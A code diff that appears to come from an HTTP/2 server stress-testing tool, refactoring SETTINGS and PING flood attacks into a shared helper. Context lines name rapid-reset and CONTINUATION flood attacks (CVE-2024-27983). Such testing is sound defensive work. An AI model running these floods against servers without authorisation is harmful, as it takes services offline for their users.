@@ -70,28 +70,28 @@ export const rapidReset: Attack = {
   },
 };
 
-/** SETTINGS frames as fast as the server takes them, without reading its ACKs. */
-export const settingsFlood: Attack = {
-  name: "h2-settings-flood",
-  what: "SETTINGS frames in a loop, the server's ACKs never read",
-  async run(ctx) {
-    const one = settings([[Setting.INITIAL_WINDOW_SIZE, 65_535], [Setting.MAX_CONCURRENT_STREAMS, 100]]);
-    const bytes = Buffer.concat(Array.from({ length: 1000 }, () => one));
-    const t = await flood(ctx, { conns: 4, ms: ctx.smoke ? 5_000 : 15_000, maxFrames: ctx.smoke ? 10_000_000 : 100_000_000, quiet: true }, () => ({ bytes, frames: 1000 }));
-    return { load: `${t.frames} frames, ${ctx.smoke ? 5 : 15} s cap`, problems: [], notes: [summary(t, "SETTINGS")] };
-  },
-};
+/** One frame as fast as the server takes it, 1,000 to a write, never reading what the server sends back. */
+function quietFlood(name: string, what: string, unit: string, one: (i: number) => Buffer): Attack {
+  const bytes = Buffer.concat(Array.from({ length: 1000 }, (_, i) => one(i)));
+  return {
+    name,
+    what,
+    async run(ctx) {
+      const ms = ctx.smoke ? 5_000 : 15_000;
+      const t = await flood(ctx, { conns: 4, ms, maxFrames: ctx.smoke ? 10_000_000 : 100_000_000, quiet: true }, () => ({ bytes, frames: 1000 }));
+      return { load: `${t.frames} frames, ${ms / 1000} s cap`, problems: [], notes: [summary(t, unit)] };
+    },
+  };
+}
 
-/** PING frames as fast as the server takes them, without reading its answers. */
-export const pingFlood: Attack = {
-  name: "h2-ping-flood",
-  what: "PING frames in a loop, the server's PING ACKs never read",
-  async run(ctx) {
-    const bytes = Buffer.concat(Array.from({ length: 1000 }, (_, i) => ping(Buffer.from(`ping${String(i).padStart(4, "0")}`))));
-    const t = await flood(ctx, { conns: 4, ms: ctx.smoke ? 5_000 : 15_000, maxFrames: ctx.smoke ? 10_000_000 : 100_000_000, quiet: true }, () => ({ bytes, frames: 1000 }));
-    return { load: `${t.frames} frames, ${ctx.smoke ? 5 : 15} s cap`, problems: [], notes: [summary(t, "PINGs")] };
-  },
-};
+export const settingsFlood = quietFlood("h2-settings-flood", "SETTINGS frames in a loop, the server's ACKs never read", "SETTINGS", () =>
+  settings([
+    [Setting.INITIAL_WINDOW_SIZE, 65_535],
+    [Setting.MAX_CONCURRENT_STREAMS, 100],
+  ]),
+);
+
+export const pingFlood = quietFlood("h2-ping-flood", "PING frames in a loop, the server's PING ACKs never read", "PINGs", (i) => ping(Buffer.from(`ping${String(i).padStart(4, "0")}`)));
 
 /** HEADERS without END_HEADERS, then CONTINUATION frames that never end the block (CVE-2024-27983 and kin). */
 export const continuationFlood: Attack = {
